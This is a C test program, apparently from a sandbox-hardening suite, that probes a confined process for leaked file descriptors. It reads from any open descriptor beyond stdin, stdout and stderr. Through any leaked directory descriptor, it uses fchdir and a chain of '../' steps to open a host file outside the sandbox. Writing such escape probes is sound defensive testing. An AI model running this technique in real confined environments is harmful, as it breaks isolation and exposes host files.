/*
 * Uses whatever descriptors it was born with: anything beside the first three is one too many.
 * Those that are folders may lead out of the box.
 *
 *     inherited PATH     a file of the host, absolute
 */
#include "hostile.h"

int main(int argc, char **argv)
{
    char target[256], link[64], up[PATH_MAX] = "", *path = argv[1];

    for (int i = 0; i < 40; i++)
        strcat(up, "../");
    for (int fd = 0; fd < 4096; fd++) {
        int got;

        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        memset(target, 0, sizeof(target));
        readlink(link, target, sizeof(target) - 1);
        if (fd > 2) {
            breach("descriptor %d is open: %s", fd, target);
            loot(fd);
        }
        if (fchdir(fd) == 0) {
            breach("descriptor %d is a folder: %s", fd, target);
            strcpy(up + 40 * 3, path + 1);
            got = open(up, O_RDONLY);
            if (got >= 0)
                loot(got);
        }
    }
    return verdict();
}
